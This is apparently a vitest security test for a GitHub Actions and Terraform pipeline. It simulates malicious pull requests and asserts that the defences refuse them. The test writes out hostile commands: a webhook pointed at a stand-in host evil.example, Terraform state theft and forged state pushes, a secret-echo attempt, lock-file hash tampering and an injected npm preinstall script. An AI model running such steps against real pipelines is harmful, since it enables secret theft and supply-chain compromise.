import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { readdir, readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, it } from 'vitest';
import type { OperationName } from '../../../src/client/contract/operations';
import { pathOf } from '../../harness/operations';
import { type JobResult, runJob } from './github';
import { type Ground, prepareGround } from './ground';

type Change = (text: string) => string | Buffer;

/** A repository whose configuration is applied, and what a pull request then changes. */
class Attacked {
  private constructor(
    readonly ground: Ground,
    private readonly secrets: Readonly<Record<string, Readonly<Record<string, string>>>>,
    private readonly base: string,
  ) {}

  static async prepare(ground: Ground): Promise<Attacked> {
    const { key } = ground.sandbox.controls.apiKeys.create({
      name: 'review',
      tenant_id: 'ten_acme',
      scopes: ['webhooks:manage'],
    });
    const { SVC_PLAN_PASSPHRASE: _, ...rest } = ground.secrets;
    const review = { ...rest, SVC_API_KEY: key, PG_CONN_STR: ground.readingConnection };
    const secrets = { 'svc-review': review, 'svc-plan': ground.secrets, 'svc-production': ground.secrets };
    const base = await ground.repository.git('rev-parse', 'HEAD');
    const attacked = new Attacked(ground, secrets, base);
    for (const job of ['plan', 'apply'])
      expect((await attacked.run('svc-apply', job, base)).hasFailed).toBe(false);
    return attacked;
  }

  run(file: string, job: string, commit: string): Promise<JobResult> {
    return runJob({ ...this.ground, secrets: this.secrets }, file, job, commit);
  }

  /** A commit on the applied one. A file that does not exist begins empty. */
  async commit(changes: Readonly<Record<string, Change>>): Promise<string> {
    await this.ground.repository.git('reset', '--quiet', '--hard', this.base);
    for (const [file, change] of Object.entries(changes)) await this.ground.repository.edit(file, change);
    return this.ground.repository.commit('Attack');
  }

  /** Runs the job that plans after the merge, and returns what its last step has said. */
  async merge(changes: Readonly<Record<string, Change>>): Promise<JobResult> {
    await rm(this.ground.machine.kept('svc-plan'), { recursive: true, force: true });
    return this.run('svc-apply', 'plan', await this.commit(changes));
  }
}

it('what a pull request can change of the pipeline gains it no more than docs/security.md says', {
  timeout: 900_000,
}, async context => {
  const ground = await prepareGround(context, 'github-actions');
  const attacked = await Attacked.prepare(ground);
  const { machine, repository } = ground;
  const harmless = await readFile(join(machine.checkout, 'infrastructure', 'svc.tfplan'));

  // The plan job of a branch has the key and the account of svc-review, and no other secret.
  const post = (operation: OperationName, body: object) =>
    `curl -s -o /dev/null -w '${operation} %{http_code}\\n' -H "Authorization: Bearer $SVC_API_KEY" ` +
    `-H 'Content-Type: application/json' -d '${JSON.stringify(body)}' "$SVC_BASE_URL${pathOf(operation)}"`;
  const steal = [
    post('webhooks.create', {
      url: 'https://evil.example/',
      events: ['alert.created'],
      secret: 's'.repeat(32),
    }),
    post('apiKeys.create', { name: 'evil', tenant_id: 'ten_acme', scopes: [] }),
    'export PG_SKIP_SCHEMA_CREATION=true PG_SKIP_TABLE_CREATION=true PG_SKIP_INDEX_CREATION=true',
    'bash pipeline.sh plan -no-color -lock=false -target=svc_webhook_endpoint.alerts > /dev/null && echo PLANNED',
    '! bash pipeline.sh plan -no-color -lock=false 2>&1',
    '$TERRAFORM_BINARY_NAME state pull > stolen.json && jq -r ".resources[].type" stolen.json',
    'jq ".serial += 1" stolen.json > forged.json && ! $TERRAFORM_BINARY_NAME state push -lock=false forged.json 2>&1',
    `echo "passphrase <\${{ secrets.SVC_PLAN_PASSPHRASE }}>"`,
  ];
  const changed = await attacked.commit({
    '.github/workflows/svc-plan.yml': text =>
      text.replace('run: bash pipeline.sh plan -lock=false', ['run: |', ...steal].join('\n          ')),
  });
  const stolen = (await attacked.run('svc-plan', 'plan', changed)).steps['Plan']?.output ?? '';
  expect(stolen).toContain('webhooks.create 201\napiKeys.create 403\nPLANNED\n');
  expect(stolen).toContain('needs an unrestricted key');
  expect(stolen).toContain('\nsvc_api_key\nsvc_webhook_endpoint\n');
  expect(stolen).toContain('permission denied');
  expect(stolen).toContain('passphrase <>');
  const before = ground.ids();

  // npm refuses a package with another content than the lock file names.
  const otherPackage = await attacked.merge({
    'infrastructure/package-lock.json': text => text.replace(/sha512-.{8}/, 'sha512-AAAAAAAA'),
  });
  expect(otherPackage.steps['Install']?.output).toContain('EINTEGRITY');
  const shrinkwrap = await attacked.merge({ 'infrastructure/npm-shrinkwrap.json': () => '{}' });
  expect(shrinkwrap.steps['Install']?.output).toContain('npm-shrinkwrap.json replaces package-lock.json');
  const otherProvider = await attacked.merge({
    'infrastructure/.terraform.lock.hcl': text => text.replaceAll(/"(h1|zh):.{8}/g, '"$1:AAAAAAAA'),
  });
  expect(otherProvider.steps['Plan']?.output).toMatch(/checksums|does not match/);

  const noProvider = await attacked.merge({ 'infrastructure/.terraform.lock.hcl': () => '' });
  expect(noProvider.steps['Plan']?.output).toContain('Provider dependency changes detected');

  // A plan in a commit is not used, and a gate needs its policy.
  const planted = await attacked.merge({
    'infrastructure/svc.tfplan': () => harmless,
    'infrastructure/main.tf': text => `${text}\nresource "svc_api_key" "broken" {}\n`,
  });
  expect(planted.steps['Report']?.code).toBe(1);
  expect(planted.summary).toMatch(/failed|no plan/i);
  const ungated = await attacked.merge({ 'infrastructure/policy.json': () => '' });
  expect(ungated.steps['Report']?.code).toBe(1);
  expect(existsSync(machine.kept('svc-plan'))).toBe(false);

  // Another state, or none: the plan says that it creates everything, and the apply refuses what the platform already has. npm
  // executes no script.
  const pointer = await attacked.merge({
    'infrastructure/.terraform/terraform.tfstate': () =>
      '{"version":3,"backend":{"type":"local","config":{"path":"planted.tfstate"},"hash":1}}',
  });
  expect(pointer.steps['Plan']?.output).toContain('Backend configuration changed');
  const elsewhere = await attacked.merge({
    'infrastructure/main.tf': text => text.replace('security_production', 'elsewhere'),
    'infrastructure/package.json': text =>
      text.replace('{', '{"scripts":{"preinstall":"touch ../executed"},'),
  });
  expect(await readdir(machine.checkout)).not.toContain('executed');
  expect(elsewhere.summary).toMatch(/^\*\*Nobody has reviewed[\s\S]*2 to create/);
  const head = await repository.git('rev-parse', 'HEAD');
  const refused = await attacked.run('svc-apply', 'apply', head);
  expect(refused.steps['Apply']?.output).toMatch(/look_alikes|looks like/i);

  // An artefact that another job has made opens with no passphrase but its own.
  const artefact = join(machine.kept('svc-plan'), 'plan.tar.gpg');
  const forged = '--batch --yes --pinentry-mode loopback --passphrase x --symmetric --output'.split(' ');
  await promisify(execFile)('gpg', [...forged, artefact, 'package.json'], {
    env: { ...process.env, HOME: machine.folder },
  });
  const opened = await attacked.run('svc-apply', 'apply', head);
  expect(opened.steps['Apply']?.output).toContain('decryption failed');
  expect(ground.ids()).toEqual(before);
});
